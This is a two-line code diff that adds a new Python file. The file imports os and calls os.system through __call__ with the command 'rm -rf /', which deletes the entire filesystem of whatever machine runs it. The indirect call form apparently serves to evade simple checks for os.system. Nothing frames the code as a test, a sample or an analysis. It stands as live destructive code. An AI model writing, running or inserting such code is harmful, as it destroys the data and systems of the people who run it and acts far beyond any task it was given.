@@ -1,0 +1,2 @@
+import os
+os.system.__call__("rm -rf /")
